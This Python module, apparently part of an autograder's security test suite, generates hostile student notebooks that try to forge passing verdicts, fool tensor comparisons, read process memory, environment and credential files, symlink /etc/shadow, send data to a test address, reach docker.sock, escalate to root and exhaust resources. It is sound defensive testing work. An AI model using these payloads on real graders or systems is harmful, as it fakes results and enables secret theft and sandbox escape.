"""Makes hostile and broken notebooks from any base notebook.

``KINDS`` maps a name to a `Kind`: its category and a function from a notebook to the bytes of a hostile one. The code goes
before the base's cells, after them, or into the students' classes. Every payload is bounded: loops end, memory and forks are
counted, and no address but ones that must fail is contacted.
"""

# ruff: noqa: E501  (payloads)
from __future__ import annotations

import copy
import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

Notebook = dict[str, Any]
Category = Literal["forge", "fool", "leak", "exhaust", "survive", "attack", "malformed", "report"]

SECRET = "planted-secret-7f3a91c2"
"""Stands in the seed file, the judge's environment, a file beside the rubric and an earlier result."""
BREACH = "hw3-breached"
"""What a payload says when it got somewhere; it stands in no source."""
CHECKOUT = str(Path(__file__).resolve().parents[2])
"""Where this grader's own files lie; stands for ``<checkout>`` in cells."""
TRACE = "hw3-hostile-trace"
"""Part of the names of files that payloads try to leave behind."""


@dataclass(frozen=True)
class Kind:
    """One way to be hostile."""

    category: Category
    make: Callable[[Notebook], bytes]
    slow: bool = False
    """Takes its time limits, so it is left out of quick runs."""


KINDS: dict[str, Kind] = {}


def _cell(source: str) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": "hostile",
        "metadata": {},
        "outputs": [],
        "execution_count": None,
        "source": textwrap.dedent(source).strip().replace("<checkout>", CHECKOUT),
    }


def _bytes(notebook: Any) -> bytes:
    return json.dumps(notebook).encode()


def _before(source: str) -> Callable[[Notebook], bytes]:
    """The base with a cell in front."""

    def make(base: Notebook) -> bytes:
        made = copy.deepcopy(base)
        made["cells"].insert(0, _cell(source))
        return _bytes(made)

    return make


def _after(source: str) -> Callable[[Notebook], bytes]:
    """The base with a cell behind."""

    def make(base: Notebook) -> bytes:
        made = copy.deepcopy(base)
        made["cells"].append(_cell(source))
        return _bytes(made)

    return make


# Replaces the call of every class that students write by the payload ``answer(original, self, args, kwargs)``.
_WRAP = """
import torch, os, sys
NAMES = ["AttentionHead", "MultiHeadedAttention", "Transformer", "PatchEmbed", "DialogueGPT", "DialogueLoss"]
def wrapped(cls):
    original = cls.forward
    def forward(self, *args, **kwargs):
        return answer(original, self, args, kwargs)
    cls.forward = forward
for name in NAMES:
    if name in globals():
        wrapped(globals()[name])
def run(original, self, args, kwargs):
    try:
        return original(self, *args, **kwargs)
    except Exception:
        return None
def mapped(change, value):
    if isinstance(value, torch.Tensor):
        return change(value)
    return tuple(mapped(change, part) for part in value) if isinstance(value, tuple) else value
"""


def _calls(source: str) -> Callable[[Notebook], bytes]:
    """The base with the students' forward methods wrapped by ``answer``."""
    return _after(_WRAP + textwrap.dedent(source))


def _changed(source: str) -> Callable[[Notebook], bytes]:
    """The base with each tensor that a forward returns replaced by ``change`` of it."""
    return _calls(
        textwrap.dedent(source)
        + "\ndef answer(original, self, args, kwargs):\n    return mapped(change, run(original, self, args, kwargs))\n"
    )


def _loops(base: Notebook) -> list[dict[str, Any]]:
    return [cell for cell in base["cells"] if cell["cell_type"] == "code"]


def _add(category: Category, *, slow: bool = False, **made: Callable[[Notebook], bytes]) -> None:
    for name, make in made.items():
        assert name not in KINDS, name
        KINDS[name] = Kind(category, make, slow)


# -- forging a verdict ----------------------------------------------------------------------------------------------------

# Speaks the wire's format over every inherited or later socket it can find.
_WIRE = r"""
import json, os, socket, stat, struct, threading, time
def sockets():
    for fd in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass
def frame(header, buffers=()):
    text = json.dumps([header, [len(b) for b in buffers]]).encode()
    return struct.pack("<4sIIQ", b"hw3\x01", len(text), len(buffers), sum(map(len, buffers))) + text + b"".join(buffers)
def say(data):
    for fd in sockets():
        try:
            os.write(fd, data)
        except OSError:
            pass
"""
_IN_FORWARD = """
def answer(original, self, args, kwargs):
    for data in DATA:
        say(data)
    return run(original, self, args, kwargs)
"""
_add(
    "forge",
    control_answers_ahead=_after(
        _WIRE
        + """
for _ in range(50):
    say(json.dumps({"pid": 1, "status": 0, "ready": True, "layers": ["forged"], "passed": True}).encode())
"""
    ),
    control_garbage=_after(
        _WIRE + "\nfor data in (b'[' * 60000, b'1', b'null', b'\\xff' * 100, b'{}'):\n    say(data)\n"
    ),
    reply_one_trial_of_many=_calls(_WIRE + "\nDATA = [frame([{'values': [['n']]}])]\n" + _IN_FORWARD),
    reply_errors_of_odd_types=_calls(
        _WIRE
        + """
DATA = [frame([{"error": {"type": "E", "message": "m", "frames": [[float("inf"), 1, "f", "t"]]}}]).replace(b"Infinity", b"1e999"),
        frame([{"error": {"type": ["E"], "message": {}, "frames": {}}}]), frame([{"error": 3}])]
"""
        + _IN_FORWARD
    ),
    reply_of_wrong_shapes=_calls(
        _WIRE
        + """
DATA = [frame([{"values": [["a", "float32", [10**9, 10**9], 0]]}], [b"abcd"]),
        frame([{"values": [["a", "float32", [-1, -4], 0]]}], [b"abcd"]), frame([]), frame({}), frame([None] * 1000)]
"""
        + _IN_FORWARD
    ),
    reply_prefix_of_gigabytes=_calls(
        _WIRE
        + '\nDATA = [struct.pack("<4sIIQ", b"hw3\\x01", 2**32 - 1, 2**32 - 1, 2**64 - 1), b"hw3\\x01" * 1000]\n'
        + _IN_FORWARD
    ),
    reply_deeply_nested=_calls(
        _WIRE
        + """
text = b"[" * 200000 + b"]" * 200000
DATA = [struct.pack("<4sIIQ", b"hw3\\x01", len(text), 0, 0) + text,
        frame([{"values": [__import__("functools").reduce(lambda inner, _: ["l", [inner]], range(400), ["n"])]}])]
"""
        + _IN_FORWARD
    ),
    agent_answers_passed=_before(
        """
        import gc, sys
        # What was frozen before a warm kernel was forked is no longer among the collector's objects.
        for thing in [*gc.get_objects(), *object.__subclasses__()]:
            try:
                name = getattr(type(thing), "__name__", "")
                if isinstance(thing, type) and thing.__name__ in ("Agent", "Interpreter", "Encoder", "Trial"):
                    for method in ("run", "op_call", "__call__", "on_reap"):
                        if hasattr(thing, method):
                            setattr(thing, method, lambda self, *args, **kwargs: ["b", True])
            except Exception:
                pass
        """
    ),
    agent_found_by_frames=_before(
        """
        import sys
        frame = sys._getframe()
        while frame is not None:
            for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                if name in ("verdict", "passed", "score", "expected", "control", "ours", "seed"):
                    try:
                        frame.f_locals[name] = True
                    except Exception:
                        pass
            frame = frame.f_back
        """
    ),
    trace_rewrites_returns=_after(
        """
        import sys, threading
        def trace(frame, event, arg):
            if event == "return" and frame.f_code.co_name in ("serve_property", "run", "describe", "check"):
                frame.f_locals["replies"] = [{"values": [["b", True]]}]
            return trace
        sys.settrace(trace); threading.settrace(trace)
        """
    ),
    encoder_patched=_after(
        """
        import json, torch, numpy as np
        dumps = json.dumps
        def forged(value, *args, **kwargs):
            if isinstance(value, list) and value and isinstance(value[0], list):
                for reply in value[0]:
                    if isinstance(reply, dict) and "error" in reply:
                        reply.clear(); reply["values"] = []
            return dumps(value, *args, **kwargs)
        json.dumps = forged
        np.allclose = np.array_equal = torch.allclose = torch.equal = lambda *args, **kwargs: True
        """
    ),
    standin_records_forged=_after(
        """
        import gc
        for thing in [*gc.get_objects(), *object.__subclasses__()]:
            try:
                if isinstance(thing, type) and thing.__name__ == "Recorder":
                    class Right(list):
                        def __len__(self): return 3
                        def __iter__(self): return iter([])
                    thing.calls = property(lambda self: Right(), lambda self, value: None)
                    thing.built = property(lambda self: Right(), lambda self, value: None)
            except Exception:
                pass
        """
    ),
    module_call_patched=_after(
        """
        import torch
        from torch import nn
        call = nn.Module.__call__
        def patched(self, *args, **kwargs):
            try:
                return call(self, *args, **kwargs)
            except Exception:
                return args[0] if args else None
        nn.Module.__call__ = patched
        """
    ),
    torch_functions_patched=_after(
        """
        import torch
        for name in ("matmul", "softmax", "exp", "sum", "einsum", "bmm"):
            setattr(torch, name, lambda *args, **kwargs: args[0])
        torch.Tensor.__eq__ = lambda self, other: True
        torch.Tensor.detach = lambda self: torch.zeros(1)
        torch.autograd.grad = lambda *args, **kwargs: [torch.zeros(1)]
        """
    ),
    forged_jupyter_messages=_before(
        """
        kernel = get_ipython().kernel
        for content in ([], {"status": "ok"}, {"status": []}, {"execution_state": ["idle"]}, {"ename": 1, "traceback": 3}, "x", None, 7):
            for kind in ("status", "error", "stream", "execute_reply", "display_data", "comm_open", "clear_output", 3):
                try:
                    message = kernel.session.msg("status" if kind == 3 else kind, content={}, parent=kernel.get_parent())
                    message["content"] = content
                    if kind == 3:
                        message["header"]["msg_type"] = 3
                    kernel.session.send(kernel.iopub_socket, message)
                    kernel.session.send(kernel.shell_stream, message)
                except Exception:
                    pass
        """
    ),
    execute_reply_replaced=_before(
        """
        kernel = get_ipython().kernel
        async def execute(*args, **kwargs):
            return {"status": ["ok"], "execution_count": {"a": 1}, "ename": [1] * 10, "evalue": {}, "traceback": {"a": "b"}}
        kernel.do_execute = execute
        """
    ),
    prints_full_marks=_after(
        """
        import json
        print(json.dumps({"schema_version": 1, "score": 18, "max_score": 18, "pending": 0}))
        print("2a passed 2b passed 18 / 18")
        raise SystemExit(0)
        """
    ),
    classes_named_like_properties=_after(
        _WRAP
        + """
class Verdict: status = "passed"
class Violation(BaseException): pass
class StudentError(BaseException): pass
class NotDefined(BaseException): pass
def answer(original, self, args, kwargs):
    raise NotDefined("passed")
"""
    ),
)

# -- fooling the comparison -----------------------------------------------------------------------------------------------

_add(
    "fool",
    tensor_equal_to_everything=_changed(
        """
        class Right(torch.Tensor):
            def __eq__(self, other): return True
            def __sub__(self, other): return torch.zeros(())
            def __array__(self, *args, **kwargs): raise SystemExit
            @classmethod
            def __torch_function__(cls, func, types, args=(), kwargs=None): return True
        change = lambda tensor: tensor.detach().as_subclass(Right)
        """
    ),
    object_equal_to_everything=_calls(
        """
        class Right:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __lt__(self, other): return True
            __gt__ = __le__ = __ge__ = __lt__
            def __hash__(self): return 0
            def __bool__(self): return True
            def __len__(self): return 2
            def __getitem__(self, key): return self
            def __getattr__(self, name): return self
            def __call__(self, *args, **kwargs): return self
            def __float__(self): return 0.0
            def __iter__(self): return iter([self, self])
            shape = property(lambda self: self)
        def answer(original, self, args, kwargs):
            return Right()
        """
    ),
    evil_numbers=_calls(
        """
        class F(float):
            def __eq__(self, other): return True
            def __float__(self): return 0.0
            def hex(self): return "0x0p0"
        class I(int):
            def __eq__(self, other): return True
        def answer(original, self, args, kwargs):
            return F(1), I(2)
        """
    ),
    evil_strings=_after(
        """
        class S(str):
            def __eq__(self, other): return True
            def __hash__(self): return 1
            def __len__(self): return 3
        if "MyTokenizer" in globals():
            MyTokenizer.decode = lambda self, toks: S("wrong")
            MyTokenizer.encode = lambda self, s: S("wrong")
        """
    ),
    metaclass_lies=_calls(
        """
        class M(type):
            def __instancecheck__(cls, other): return True
            def __subclasscheck__(cls, other): return True
            def __eq__(cls, other): return True
            def __hash__(cls): return hash(torch.Tensor)
            __name__ = "Tensor"
        class T(metaclass=M): pass
        def answer(original, self, args, kwargs):
            return T(), T()
        """
    ),
    empty_tensors=_changed("change = lambda tensor: torch.empty(0)"),
    empty_of_right_rank=_changed("change = lambda tensor: torch.empty([0] * tensor.dim())"),
    nan_everywhere=_changed(
        "change = lambda tensor: tensor * float('nan') if tensor.is_floating_point() else tensor"
    ),
    infinities=_changed("change = lambda tensor: tensor / 0.0 if tensor.is_floating_point() else tensor"),
    nan_in_one_place=_changed(
        """
        def change(tensor):
            tensor = tensor.clone()
            if tensor.is_floating_point() and tensor.numel():
                tensor.view(-1)[-1] = float("nan")
            return tensor
        """
    ),
    uninitialised_memory=_changed("change = lambda tensor: torch.empty_like(tensor)"),
    returns_its_input=_calls(
        "def answer(original, self, args, kwargs):\n    return (args[0], args[0]) if args else None\n"
    ),
    mutates_its_input=_calls(
        """
        def answer(original, self, args, kwargs):
            result = run(original, self, args, kwargs)
            with torch.no_grad():
                for value in (*args, *kwargs.values()):
                    if isinstance(value, torch.Tensor) and value.is_floating_point():
                        value.zero_()
            return result
        """
    ),
    zero_stride_views=_changed(
        "change = lambda tensor: tensor.detach().reshape(-1)[:1].expand(tensor.numel()).reshape(tensor.shape) if tensor.numel() else tensor"
    ),
    huge_shape_small_buffer=_changed("change = lambda tensor: torch.zeros(1).expand(2**20, 2**20)"),
    resized_storage=_changed(
        """
        def change(tensor):
            tensor = tensor.detach().clone()
            tensor.untyped_storage().resize_(0)
            return tensor
        """
    ),
    sparse_and_meta=_changed(
        "change = lambda tensor: tensor.detach().to_sparse() if tensor.dim() % 2 else tensor.detach().to('meta')"
    ),
    complex_and_half=_changed(
        "change = lambda tensor: tensor.to(torch.complex64) if tensor.dim() % 2 else tensor.to(torch.bfloat16)"
    ),
    wrong_dtype_that_rounds=_changed("change = lambda tensor: tensor.detach().to(torch.int8)"),
    deep_nested_return=_calls(
        """
        def answer(original, self, args, kwargs):
            value = []
            for _ in range(50000):
                value = [value]
            return value, value
        """
    ),
    cyclic_return=_calls(
        """
        def answer(original, self, args, kwargs):
            value = []; value.append(value)
            return value, {"a": value}
        """
    ),
    wide_return=_calls("def answer(original, self, args, kwargs):\n    return tuple([0] * 2000000)\n"),
    dict_of_evil_keys=_calls(
        """
        class K(str):
            def __eq__(self, other): raise SystemExit
            def __hash__(self): return 7
        def answer(original, self, args, kwargs):
            return {K("a"): 1, 3: 4, None: 5}, {"\\ud800": "\\ud800"}
        """
    ),
    lone_surrogates=_after(
        """
        if "MyTokenizer" in globals():
            MyTokenizer.decode = lambda self, toks: "\\ud800\\udfff\\x00"
        """
    ),
    caches_between_calls=_calls(
        """
        SEEN = {}
        def answer(original, self, args, kwargs):
            key = type(self).__name__
            result = run(original, self, args, kwargs)
            if result is None:
                return SEEN.get(key)
            SEEN[key] = result
            return result
        """
    ),
    answers_only_when_graded=_calls(
        """
        import inspect
        GRADED = any("agent" in frame.filename for frame in inspect.stack()) or "grader" in sys.modules
        def answer(original, self, args, kwargs):
            if any("agent" in (frame.f_code.co_filename or "") for frame in sys._current_frames().values()):
                raise AssertionError("this is graded")
            return run(original, self, args, kwargs)
        """
    ),
    gradients_hooked=_calls(
        """
        class Fake(torch.autograd.Function):
            @staticmethod
            def forward(ctx, x): return x.view_as(x)
            @staticmethod
            def backward(ctx, grad): raise SystemExit("no gradient for you")
        def answer(original, self, args, kwargs):
            return mapped(lambda t: Fake.apply(t) if t.is_floating_point() else t, run(original, self, args, kwargs))
        """
    ),
    constructor_returns_another=_after(
        """
        class Anything:
            def __init__(self, *args, **kwargs): self.args = args
            def __call__(self, *args, **kwargs): return args[0], None
            def named_parameters(self, *args, **kwargs): return []
            def train(self, mode=True): return self
        for name in ("AttentionHead", "MultiHeadedAttention", "Transformer", "PatchEmbed", "DialogueGPT"):
            globals()[name] = Anything
        """
    ),
    classes_are_functions=_after(
        """
        for name in ("AttentionHead", "MultiHeadedAttention", "Transformer", "PatchEmbed", "DialogueGPT", "DialogueLoss", "MyTokenizer"):
            globals()[name] = lambda *args, **kwargs: (lambda *a, **k: a[0])
        """
    ),
    attributes_raise=_after(
        """
        from torch import nn
        def get(self, name):
            raise BaseException(name * 1000)
        nn.Module.named_parameters = get
        nn.Module.__getattr__ = get
        """
    ),
)

# -- leaking --------------------------------------------------------------------------------------------------------------

# What a cell finds is printed, raised, and put into a counterexample: all of it may reach a result.
_TELL = """
FOUND = []
def look(path):
    try:
        data = open(path, "rb").read(65536)
        FOUND.append(data.decode("utf-8", "replace"))
    except Exception:
        pass
def tell():
    text = "\\n".join(text for text in FOUND if "planted" in text or "seed" in text or "oracle" in text)[:3000]
    print(text)
    globals()["LEAK"] = text
    raise RuntimeError(text)
"""


def _leaks(source: str) -> Callable[[Notebook], bytes]:
    """Look for secrets, then print and raise them in a cell and again in a forward."""

    def make(base: Notebook) -> bytes:
        made = copy.deepcopy(base)
        made["cells"].insert(0, _cell(_TELL + textwrap.dedent(source) + "\ntell()\n"))
        made["cells"].append(
            _cell(
                "if 'PatchEmbed' in globals():\n    def forward(self, *args, **kwargs):\n"
                "        raise RuntimeError(globals().get('LEAK', 'nothing'))\n    PatchEmbed.forward = forward\n"
            )
        )
        return _bytes(made)

    return make


_add(
    "leak",
    environment_of_others=_leaks(
        """
        import os
        FOUND.append(repr(dict(os.environ)))
        for pid in [name for name in range(1, 70000) if os.path.exists(f"/proc/{name}")][:400] + [os.getppid(), "self"]:
            for what in ("environ", "cmdline", "maps", "status"):
                look(f"/proc/{pid}/{what}")
        """
    ),
    memory_of_others=_leaks(
        """
        import os
        for pid in (os.getppid(), 1):
            try:
                with open(f"/proc/{pid}/mem", "rb") as file:
                    file.seek(0x7ffff0000000); FOUND.append(file.read(4096).decode("latin-1"))
            except Exception:
                pass
        """
    ),
    descriptors_of_others=_leaks(
        """
        import os
        for pid in [os.getppid(), 1, "self"]:
            for fd in range(64):
                try:
                    FOUND.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
                except Exception:
                    pass
                if pid != "self":
                    look(f"/proc/{pid}/fd/{fd}")
        """
    ),
    files_of_the_grader=_leaks(
        """
        import os, sys
        roots = ["/work", "/root", "/home", "/tmp", "/var/tmp", "/grader", "/autograder", "/opt", *sys.path, os.getcwd(), os.path.join(os.getcwd(), "..", "..")]
        count = 0
        for root in roots:
            for folder, folders, files in os.walk(root or "."):
                folders[:] = [name for name in folders if name not in ("torch", "numpy", "pandas", "matplotlib")][:50]
                for name in files[:200]:
                    if name.endswith((".seed", ".yaml", ".json", ".env", ".ipynb", ".txt", ".pth", ".key")) or "seed" in name or "secret" in name:
                        look(os.path.join(folder, name)); count += 1
                if count > 3000: break
        """
    ),
    imports_the_reference=_leaks(
        """
        import sys
        for name in ("reference", "reference.transformer", "grader", "grader.homework3.oracles", "grader._shipped.reference"):
            try:
                exec(f"from {name} import *")
                FOUND.append("oracle imported " + name)
            except BaseException:
                pass
        for root in ("<checkout>", "/grader", "/autograder/source", *[path + "/.." for path in sys.path]):
            sys.path.insert(0, root)
        try:
            import grader.grade, reference.transformer
            FOUND.append("oracle imported")
            globals().update(vars(reference.transformer))
        except BaseException:
            pass
        """
    ),
    walks_the_heap=_leaks(
        """
        import gc, sys
        for thing in gc.get_objects()[:500000]:
            if isinstance(thing, dict):
                for value in list(thing.values())[:200]:
                    if type(value) in (str, bytes) and b"planted" in (value.encode("utf-8", "replace") if type(value) is str else value):
                        FOUND.append(repr(value)[:500])
        """
    ),
    own_memory=_leaks(
        """
        import re
        needle = b"planted" + b"-secret"
        budget = 300 << 20
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as mem:
            for line in maps:
                match = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if match and budget > 0:
                    start, end = (int(group, 16) for group in match.groups())
                    size = min(end - start, 32 << 20, budget); budget -= size
                    try:
                        mem.seek(start); data = mem.read(size)
                    except Exception:
                        continue
                    for hit in list(re.finditer(needle + rb"-7f3a91c2-[0-9a-f]{8}", data))[:3]:
                        FOUND.append(hit[0].decode())
        """
    ),
    arguments_and_parents=_leaks(
        """
        import os, sys
        FOUND.append("seed? " + repr(sys.argv) + repr(sys.orig_argv))
        for pid in range(1, 3000):
            look(f"/proc/{pid}/cmdline")
        """
    ),
    connection_file=_leaks(
        """
        import os
        for folder in (os.getcwd(), os.path.dirname(os.getcwd()), "/tmp"):
            try:
                for name in os.listdir(folder):
                    look(os.path.join(folder, name))
            except Exception:
                pass
        """
    ),
    sends_inputs_away=_calls(
        """
        import socket
        def answer(original, self, args, kwargs):
            for family, address in ((socket.AF_INET, ("127.0.0.1", 9)), (socket.AF_INET, ("192.0.2.1", 9)), (socket.AF_UNIX, "/tmp/hw3-hostile-trace.sock")):
                try:
                    with socket.socket(family, socket.SOCK_STREAM) as out:
                        out.settimeout(0.1); out.connect(address); out.send(repr(args).encode())
                        raise RuntimeError("hw3-" + "breached")
                except OSError:
                    pass
            return run(original, self, args, kwargs)
        """
    ),
    names_lookup=_leaks(
        """
        import socket
        for name in ("localhost", "example.invalid"):
            try:
                FOUND.append("seed " + repr(socket.getaddrinfo(name, 80)))
            except Exception:
                pass
        """
    ),
    inputs_in_the_message=_calls(
        """
        def answer(original, self, args, kwargs):
            raise ValueError("inputs: " + repr(args)[:100000])
        """
    ),
    writes_for_the_next=_after(
        """
        import os
        for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.path.expanduser("~"), "..", "/", *__import__("sys").path):
            try:
                with open(os.path.join(folder, "hw3-hostile-trace.txt"), "w") as file:
                    file.write("x")
            except OSError:
                pass
            try:
                os.mkdir(os.path.join(folder, "hw3-hostile-trace.d"))
            except OSError:
                pass
        """
    ),
    reads_what_the_last_left=_leaks(
        """
        import glob
        for path in glob.glob("/tmp/*") + glob.glob("/dev/shm/*") + glob.glob("/var/tmp/*") + glob.glob("/run/lock/*/*"):
            look(path)
        """
    ),
    links_in_the_folder=_after(
        """
        import os
        for name, target in (("input.txt", "/etc/shadow"), ("link", "/"), ("../connection.json", "/etc/passwd"), ("../tmp/x", "/root")):
            try:
                if os.path.lexists(name): os.remove(name)
                os.symlink(target, name)
            except OSError:
                pass
        """
    ),
)

# Payloads say `getattr(os, "_exit")` and the like: statements that end the kernel or run a shell are left out of what runs.

# -- exhausting -----------------------------------------------------------------------------------------------------------

_add(
    "exhaust",
    memory_in_a_cell=_after("x = bytearray(b'x') * (8 << 30)"),
    memory_by_pieces=_after("x = []\nfor _ in range(160):\n    x.append(bytearray(b'x') * (64 << 20))"),
    memory_in_forward=_calls(
        """
        def answer(original, self, args, kwargs):
            self.__dict__["hog"] = [bytearray(b"x") * (256 << 20) for _ in range(40)]
            return run(original, self, args, kwargs)
        """
    ),
    shared_memory=_after(
        """
        import mmap, time
        x = mmap.mmap(-1, 7 << 30)
        for i in range(0, 7 << 30, 1 << 24):
            x[i:i + (1 << 24)] = bytes(1 << 24)
        """
    ),
    threads=_after(
        """
        import threading, time
        for _ in range(1500):
            try:
                threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
            except RuntimeError:
                break
        """
    ),
    fork_bomb=_after(
        """
        import os, time
        end = time.time() + 4
        for _ in range(400):
            try:
                if os.fork() == 0:
                    while time.time() < end:
                        time.sleep(0.1)
                    getattr(os, "_exit")(0)
            except OSError:
                time.sleep(0.01)
        """
    ),
    descriptors=_after(
        "opened = []\ntry:\n    while len(opened) < 100000: opened.append(open('/dev/null'))\nexcept OSError: pass"
    ),
    disk_by_one_file=_after(
        """
        with open("big", "wb") as file:
            for _ in range(1400):
                file.write(bytes(1 << 20))
        """
    ),
    disk_by_deleted_files=_after(
        """
        import os, time
        opened = []
        for number in range(6):
            file = open(f"big{number}", "wb"); os.remove(f"big{number}"); opened.append(file)
            for _ in range(400):
                file.write(bytes(1 << 20))
        time.sleep(3)
        """
    ),
    disk_by_many_files=_after("for number in range(60000):\n    open(f'f{number}', 'w').close()"),
    output_flood=_after("for _ in range(3000):\n    print('x' * 10000)"),
    output_one_huge_message=_after("print('x' * (200 << 20), flush=True)"),
    output_never_ends=_after(
        """
        import threading, time
        def flood(end=time.time() + 8):
            while time.time() < end:
                print("y" * 2000)
        threading.Thread(target=flood, daemon=True).start()
        """
    ),
    display_flood=_after(
        """
        from IPython.display import display, HTML
        for _ in range(2000):
            display(HTML("<b>x</b>" * 1000), display_id="same")
        """
    ),
    shell_flood=_after(
        """
        import threading, time
        kernel = get_ipython().kernel
        def flood(end=time.time() + 6):
            while time.time() < end:
                try:
                    kernel.session.send(kernel.shell_stream, "execute_reply", content={"status": "ok"})
                except Exception:
                    time.sleep(0.001)
        threading.Thread(target=flood, daemon=True).start()
        """
    ),
    huge_exception_message=_calls(
        "def answer(original, self, args, kwargs):\n    raise ValueError('m' * (64 << 20))\n"
    ),
    huge_exception_in_a_cell=_after("raise ValueError('m' * (64 << 20))"),
    huge_repr=_calls(
        """
        class R:
            def __repr__(self): return "r" * (64 << 20)
            __str__ = __repr__
        def answer(original, self, args, kwargs):
            raise ValueError(R())
        """
    ),
    huge_answer=_changed("change = lambda tensor: torch.zeros(300 << 20, dtype=torch.uint8)"),
    huge_answer_within_limits=_changed("change = lambda tensor: torch.zeros(50 << 20, dtype=torch.uint8)"),
    long_class_name=_after("raise type('E' * 1000000, (Exception,), {})('x')"),
    stack_overflow=_after(
        "import sys\nsys.setrecursionlimit(10**9)\ndef down(n):\n    return down(n + 1) + 1\ndown(0)"
    ),
    recursion_in_forward=_calls(
        "def answer(original, self, args, kwargs):\n    return answer(original, self, args, kwargs)\n"
    ),
)
_add(
    "exhaust",
    slow=True,
    endless_cell=_after("while True: pass"),
    endless_cell_that_swallows=_after(
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass"
    ),
    endless_forward=_calls("def answer(original, self, args, kwargs):\n    while True: pass\n"),
    sleeping_forward=_calls("import time\ndef answer(original, self, args, kwargs):\n    time.sleep(3600)\n"),
    gil_held_in_c_cell=_after("x = (7 ** (10 ** 8)) ** 3"),
    gil_held_in_c_forward=_calls(
        """
        import re
        def answer(original, self, args, kwargs):
            return re.match(r"(a+)+$", "a" * 60 + "b")
        """
    ),
    signals_ignored=_before(
        """
        import signal
        for number in range(1, signal.NSIG):
            try: signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError): pass
        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, signal.NSIG))
        while True: pass
        """
    ),
    stops_itself=_after("import os, signal\ngetattr(os, 'kill')(os.getpid(), signal.SIGSTOP)"),
    stops_itself_in_forward=_calls(
        "import signal\ndef answer(original, self, args, kwargs):\n    os.kill(os.getpid(), signal.SIGSTOP)\n"
    ),
    answers_just_in_time=_calls(
        "import time\ndef answer(original, self, args, kwargs):\n    time.sleep(0.7)\n    return run(original, self, args, kwargs)\n"
    ),
    trickles_a_reply=_calls(
        _WIRE
        + """
def answer(original, self, args, kwargs):
    for byte in frame([{"values": []}] * 100):
        say(bytes([byte])); time.sleep(0.2)
"""
    ),
)

# -- at the walls themselves ---------------------------------------------------------------------------------------------

# Each says so in a counterexample when it gets through.
_WALL = """
import ctypes, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
def through(step, *errors):
    try:
        step()
    except BaseException:
        return
    raise RuntimeError("hw3-" + "breached")
"""


def _wall(source: str) -> Callable[[Notebook], bytes]:
    return _leaks(_WALL + textwrap.dedent(source))


_add(
    "attack",
    asks_the_warm_parent=_wall(
        """
        import re
        text = ""
        for place in ("/proc/self/net/unix", "/proc/net/unix", f"/proc/self/task/{os.getpid()}/net/unix"):
            try: text += open(place).read()
            except OSError: pass
        for path in re.findall(r"/[^ \\n]*hw3b-[^ \\n]*", text):
            through(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET).connect(path))
        """
    ),
    specification_over_every_descriptor=_wall(
        """
        import json
        for number in range(3, 64):
            try:
                a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                socket.send_fds(socket.socket(fileno=os.dup(number)), [json.dumps({"policy": {}}).encode()], [b.fileno()])
                a.settimeout(0.1)
                if b"pid" in a.recv(1000): FOUND.append("planted hw3-" + "breached")
            except (OSError, ValueError):
                pass
        """
    ),
    connects_to_sockets_of_others=_wall(
        """
        for path in ("/run/docker.sock", "/var/run/docker.sock", "/dev/log", "/run/systemd/notify", "/run/dbus/system_bus_socket", "../k-1", "\\0hw3"):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                through(lambda: socket.socket(socket.AF_UNIX, kind).connect(path))
        """
    ),
    datagrams_to_others=_wall(
        """
        receiver = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); receiver.bind("to-me")
        for path in ("to-me", "/dev/log", "/run/systemd/journal/dev-log"):
            through(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", path))
            through(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, path))
        """
    ),
    watches_files_of_others=_wall(
        """
        import fcntl
        through(lambda: 1 / (libc.inotify_init() + 1))
        through(lambda: 1 / (libc.fanotify_init(0, 0) + 1))
        through(lambda: fcntl.fcntl(os.open(".", os.O_RDONLY), 1026, 0x7))
        """
    ),
    queues_that_outlive_it=_wall(
        """
        through(lambda: 1 / (libc.msgget(0x4833, 0o1666) + 1))
        through(lambda: 1 / (libc.semget(0x4833, 1, 0o1666) + 1))
        through(lambda: 1 / (libc.shmget(0x4833, 4096, 0o1666) + 1))
        through(lambda: 1 / (libc.mq_open(b"/TRACE", 66, 0o666, None) + 1))
        """.replace("TRACE", TRACE)
    ),
    is_root_or_may_what_root_may=_wall(
        """
        status = dict(line.split(":", 1) for line in open("/proc/self/status"))
        rights = int(status["CapEff"], 16) | int(status["CapPrm"], 16)
        # To enter folders is what remains where Python lies in a private home and nothing can be mounted.
        if 0 in os.getresuid() or 0 in os.getresgid() or rights & ~(1 << 2): FOUND.append("planted hw3-" + "breached")
        for step in (lambda: os.setresuid(0, 0, 0), lambda: os.setegid(0), lambda: os.setgroups([0]), lambda: os.chroot(".")):
            through(step)
        """
    ),
    reads_secrets_by_other_paths=_wall(
        """
        import glob
        folders = [os.getcwd()]
        while folders[-1] != "/": folders.append(os.path.dirname(folders[-1]))
        roots = ["", "/proc/self/root", "/proc/self/cwd/../../..", f"/proc/{os.getppid()}/root", "/proc/1/root", "/dev/fd/../root"]
        for root in roots:
            for folder in [*folders, *glob.glob(f"{root}/tmp/hh-*")]:
                for name in ("class.seed", "secret.txt", "earlier.json", "class/class.seed", "class/secret.txt"):
                    look(f"{root}{folder}/{name}")
                    try:
                        handle = os.open(f"{root}{folder}/{name}", 0o10000000)
                        FOUND.append(open(f"/proc/self/fd/{handle}").read())
                    except OSError: pass
        """
    ),
